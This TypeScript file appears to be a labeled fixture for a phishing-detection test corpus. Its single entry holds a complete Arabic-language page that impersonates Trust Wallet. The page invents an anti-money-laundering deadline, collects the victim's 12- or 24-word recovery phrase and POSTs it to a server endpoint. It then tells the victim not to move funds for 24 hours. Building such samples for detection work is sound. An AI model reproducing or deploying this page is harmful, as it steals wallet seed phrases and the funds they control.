import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, wordmark, json, js, b64 } from '../parts/yl-kit.js';

export const entries: Entry[] = [
{
  id: 'yl-seed-trustwallet-verify-ar',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://trustwallet-verify-ar.com/ar/validate',
  body: doc({
    title: 'Trust Wallet | توثيق المحفظة',
    lang: 'ar',
    css: `*{box-sizing:border-box}body{margin:0;background:#f5f7fb;font-family:Tahoma,Arial,sans-serif;color:#1b1f2a}.c{max-width:520px;margin:30px auto;background:#fff;border-radius:16px;padding:26px;box-shadow:0 6px 24px rgba(0,0,0,.06)}
.al{background:#fff5e6;color:#8a4b00;border-radius:10px;padding:12px;font-size:14px;line-height:1.7;margin:14px 0}.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px;direction:ltr}.g input{height:40px;border:1px solid #d6dbe6;border-radius:8px;padding:0 8px;font-size:14px}
button{width:100%;height:48px;background:#0500ff;color:#fff;border:0;border-radius:24px;font-size:16px;margin-top:16px;cursor:pointer}.tg{display:flex;gap:8px;margin-bottom:10px}.tg span{padding:6px 12px;border-radius:14px;background:#eef1f8;font-size:13px;cursor:pointer}.tg span.on{background:#0500ff;color:#fff}`,
    body: `<div class="c">${wordmark('Trust Wallet', '#0500ff', { size: 26 })}<h2>توثيق المحفظة</h2>
<div class="al">وفقاً للوائح مكافحة غسل الأموال الجديدة في الإمارات والسعودية، يجب توثيق جميع المحافظ قبل نهاية الشهر. المحافظ غير الموثقة سيتم تجميد أصولها مؤقتاً.</div>
<p style="font-size:14px">أدخل عبارة الاسترداد السرية (12 أو 24 كلمة) بالترتيب الصحيح للتحقق من ملكية المحفظة.</p>
<div class="tg"><span class="on" data-n="12">12 كلمة</span><span data-n="24">24 كلمة</span></div>
<form id="f"><div class="g" id="g"></div><button>توثيق</button></form><p style="font-size:12px;color:#777;text-align:center">يتم تشفير بياناتك محلياً ولا يتم تخزينها.</p></div>
<script>
function build(n){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=n;i++){var x=document.createElement('input');x.placeholder=i+'.';x.name='w'+i;x.autocomplete='off';x.spellcheck=false;g.appendChild(x)}
g.firstChild.addEventListener('paste',function(e){var t=(e.clipboardData||window.clipboardData).getData('text').trim().split(/\\s+/);if(t.length>1){e.preventDefault();var ins=g.querySelectorAll('input');t.forEach(function(w,j){if(ins[j])ins[j].value=w})}})}
build(12);document.querySelectorAll('.tg span').forEach(function(s){s.onclick=function(){document.querySelectorAll('.tg span').forEach(function(x){x.classList.remove('on')});s.classList.add('on');build(+s.dataset.n)}});
document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=[].map.call(document.querySelectorAll('#g input'),function(i){return i.value.trim().toLowerCase()});
if(w.some(function(x){return !x})){alert('يرجى إدخال جميع الكلمات');return}
fetch('/ar/api/v',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({phrase:w.join(' '),wallet:'trust',n:w.length})}).finally(function(){document.querySelector('.c').innerHTML='<h2>جاري التوثيق…</h2><p>قد تستغرق العملية حتى 24 ساعة. لا تقم بنقل أي أصول خلال هذه الفترة.</p>'})};
</script>`,
  }),
  routes: { 'trustwallet-verify-ar.com/ar/api/v': json({ ok: 1 }) },
},
];
